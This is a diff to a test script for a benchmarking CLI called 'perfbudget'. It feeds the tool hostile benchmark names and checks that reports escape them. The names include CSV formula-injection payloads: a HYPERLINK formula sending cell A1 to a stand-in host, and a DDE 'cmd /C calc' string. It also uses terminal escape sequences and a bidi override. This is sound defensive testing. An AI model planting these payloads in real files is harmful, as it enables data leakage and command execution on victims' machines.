@@ -32,6 +32,13 @@ names=(
   '| md | pipe |'
   'comma, "quoted", csv'
   'µs ünïcödé ✓'
+  '=HYPERLINK("http://example.invalid/?"&A1,"csv formula")'
+  '+cmd|'"'"'/C calc'"'"'!A0'
+  '-2+3+cmd'
+  '@SUM(A1:A9)'
+  $'\tTAB=1+1'
+  '-3.5'
+  $'bidi \xe2\x80\xae override'
 )
 printf '%s\0' "${names[@]}" > ../names.bin
 
@@ -55,6 +62,52 @@ cat close.txt >> terminal.txt
 "$perfbudget" baseline import exported.json --history again.sqlite > /dev/null ||
   fail "baseline import failed"
 "$perfbudget" report --format json --history again.sqlite > again.json || fail "report again failed"
+# What else prints names: a report to the terminal (its title too), baseline save, list and an
+# import whose default name comes from the file's name.
+"$perfbudget" report --history h.sqlite --title $'title \x1b]0;retitled\x07 \x1b[2J' \
+  >> terminal.txt 2>&1 || fail "report to the terminal failed"
+"$perfbudget" report --format csv --history h.sqlite > history.csv || fail "report csv failed"
+"$perfbudget" baseline save $'saved \x1b[31m\nname' --history h.sqlite >> terminal.txt 2>&1 ||
+  fail "baseline save of a hostile name failed"
+cp exported.json $'from file \x1b]0;t\x07.json'
+"$perfbudget" baseline import $'from file \x1b]0;t\x07.json' --history h.sqlite \
+  >> terminal.txt 2>&1 || fail "baseline import by a hostile file name failed"
+"$perfbudget" baseline list --history h.sqlite > list.txt 2>&1 || fail "baseline list failed"
+cat list.txt >> terminal.txt
+grep -qF 'saved \x1b[31m\nname' list.txt || fail "baseline list does not show a name escaped"
+grep -qF 'from file \x1b]0;t\x07 ' list.txt || fail "an imported file's name is not escaped"
+grep -qF '### title \x1b]0;retitled\x07 \x1b[2J: ' terminal.txt || fail "--title is not escaped"
+
+# A name that is not UTF-8 is refused at entry with the offset of its first bad byte, before
+# the command runs, and the history stays readable.
+status=0
+"$perfbudget" run --name $'bad\xff name' --history h.sqlite -- touch ran > out.txt 2>&1 || status=$?
+[[ $status -eq 2 && ! -e ran ]] && grep -qF "benchmark name 'bad\xff name' is not valid UTF-8: byte 0xff at byte offset 3" out.txt ||
+  fail "run --name with a byte that is not UTF-8: exit $status, $(cat out.txt)"
+cp exported.json $'bad\xfe.json'
+status=0
+"$perfbudget" baseline import $'bad\xfe.json' --history h.sqlite > out.txt 2>&1 || status=$?
+[[ $status -eq 2 ]] && grep -qF "baseline name 'bad\xfe' is not valid UTF-8: byte 0xfe at byte offset 3 (give one with --name)" out.txt ||
+  fail "import with a default name that is not UTF-8: exit $status, $(cat out.txt)"
+status=0
+"$perfbudget" baseline save $'b\xc3' --history h.sqlite > out.txt 2>&1 || status=$?
+[[ $status -eq 2 ]] && grep -qF "byte 0xc3 at byte offset 1" out.txt ||
+  fail "baseline save with a name that is not UTF-8: exit $status, $(cat out.txt)"
+"$perfbudget" report --format json --history h.sqlite > /dev/null || fail "the history is unreadable"
+echo "ok: names that are not UTF-8 refused with their byte offset"
+
+# A 100 KB name makes its own row long, not every row: the name column stops at 60 columns.
+long=$(head -c 100000 /dev/zero | tr '\0' x)
+for name in short "$long"; do
+  "$perfbudget" run --name "$name" --runs 2 --warmup 0 --history long.sqlite -- true > /dev/null ||
+    fail "run --name of $(printf %.20s "$name"): failed"
+done
+"$perfbudget" history --history long.sqlite > long.txt 2>&1 || fail "history of the long name failed"
+short_row=$(grep '^short ' long.txt | head -1)
+[[ -n $short_row && ${#short_row} -lt 200 ]] ||
+  fail "perfbudget history: the short name's row is ${#short_row} characters long"
+grep -q "^$long " long.txt || fail "perfbudget history: the long name is not shown whole"
+echo "ok: with a 100 KB name, the other rows stay ${#short_row} characters long"
 
 # No name reached a shell.
 pwned=$(find "$work" / -maxdepth 1 -name 'pwned-*' 2>/dev/null || true)
@@ -93,16 +146,55 @@ def same(what, got):
     if sorted(got) != sorted(names):
         problems.append(f"{what}: {sorted(set(names) ^ set(got))!r} differ")
 
+def shown(name):
+    """The one rule for text formats: control characters, DEL, C1 and bidirectional overrides
+    shown as text."""
+    named = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
+    out = ""
+    for ch in name:
+        code = ord(ch)
+        if ch in named:
+            out += named[ch]
+        elif code < 0x20 or code == 0x7f:
+            out += f"\\x{code:02x}"
+        elif 0x80 <= code <= 0x9f or 0x2028 <= code <= 0x202e or 0x2066 <= code <= 0x2069:
+            out += f"\\u{code:04x}"
+        else:
+            out += ch
+    return out
+
+def csv_cell(name):
+    """OWASP: a text cell a spreadsheet would take for a formula starts with '."""
+    formula = name[:1] in ("=", "+", "-", "@", "\t", "\r")
+    try:
+        float(name)
+        formula = False  # a plain number, never a formula
+    except ValueError:
+        pass
+    return ("'" if formula else "") + shown(name)
+
 same("session result file", [b["name"] for b in json.load(open("all.json"))["benchmarks"]])
 same("history", [b["name"] for b in json.load(open("history.json"))["benchmarks"]])
 same("exported baseline", [b["name"] for b in json.load(open("exported.json"))["benchmarks"]])
 same("imported baseline", [b["name"] for b in json.load(open("again.json"))["benchmarks"]])
 
-rows = list(csv.reader(open("report.csv", newline="")))
-width = {len(row) for row in rows}
-if len(width) != 1:
-    problems.append(f"CSV rows of different widths {width}")
-same("CSV", list({row[0] for row in rows[1:]}))  # one row per figure
+for report in ("report.csv", "history.csv"):
+    rows = list(csv.reader(open(report, newline="")))
+    width = {len(row) for row in rows}
+    if len(width) != 1:
+        problems.append(f"{report}: rows of different widths {width}")
+    got = sorted({row[0] for row in rows[1:]})  # one row per figure
+    if got != sorted(csv_cell(name) for name in names):
+        problems.append(f"{report}: {set(got) ^ set(csv_cell(name) for name in names)!r} differ")
+    for row in rows[1:]:
+        for figure in (row[2], row[5], row[6]):  # value, baseline, change_pct: numbers
+            try:
+                float(figure or "0")
+            except ValueError:
+                problems.append(f"{report}: figure {figure!r} is not a plain number")
+    raw = open(report, "rb").read()
+    if any(byte < 0x20 and byte not in (0x0a, 0x0d) for byte in raw) or b"\xc2\x9b" in raw:
+        problems.append(f"{report}: raw control characters")
 
 lines = open("report.md").read().splitlines()
 table = [line for line in lines if line.startswith("|")]
